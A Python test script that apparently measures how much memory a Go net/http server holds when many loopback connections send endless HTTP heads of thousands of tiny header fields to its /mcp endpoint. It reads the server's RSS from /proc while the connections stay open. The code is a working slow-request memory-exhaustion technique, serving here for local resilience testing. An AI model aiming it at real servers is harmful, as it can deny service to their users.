#!/usr/bin/env python3
"""hdrtiny11a.py: heads of many tiny header fields (N lines "hNNNN: a", about 60 KiB, under the 64 KiB
head limit) that never end (no blank line), no token, CONNS connections from each of the loopback
addresses in SRCS (127.0.0.x), held HOLD s: what net/http holds while parsing a head (a map entry and
strings per field); prints the target's RSS every 2 s and what the connections saw.
With TLS=1 over TLS (ALPN http/1.1, certificate not verified).
usage: hdrtiny11a.py HOST:PORT PID CONNS HOLD [SRC...]"""
import os, sys, time, socket, ssl
addr, pid, conns, hold = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]); srcs = sys.argv[5:] or ['127.0.0.1']
host, port = addr.rsplit(':', 1)
n = int(os.environ.get('N', '6500'))
head = b'POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\n' + b''.join(b'h%d: a\r\n' % i for i in range(n))
def rss():
    s = {l.split(':')[0]: int(l.split()[1]) // 1024 for l in open(f'/proc/{pid}/status') if l.startswith(('VmRSS', 'VmHWM'))}
    return 'RSS %d MB (peak %d)' % (s['VmRSS'], s['VmHWM'])
print('head bytes', len(head), 'before', rss(), flush=True)
socks = []
for src in srcs:
    for i in range(conns):
        try:
            s = socket.socket(); s.bind((src, 0)); s.settimeout(5); s.connect((host, int(port)))
            if os.environ.get('TLS'):
                ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE; ctx.set_alpn_protocols(['http/1.1']); s = ctx.wrap_socket(s)
            s.sendall(head); socks.append(s)
        except Exception as e:
            pass
print('open', len(socks), rss(), flush=True)
t0 = time.time()
while time.time() - t0 < hold:
    time.sleep(2); print('%3.0fs' % (time.time() - t0), rss(), flush=True)
seen = {}
for s in socks:
    s.settimeout(0.01)
    try: b = s.recv(64); k = b.split(b'\r\n')[0] if b else b'closed'
    except Exception as e: k = type(e).__name__.encode()
    seen[k] = seen.get(k, 0) + 1
print('seen', seen)
for s in socks: s.close()
time.sleep(2); print('after close', rss())
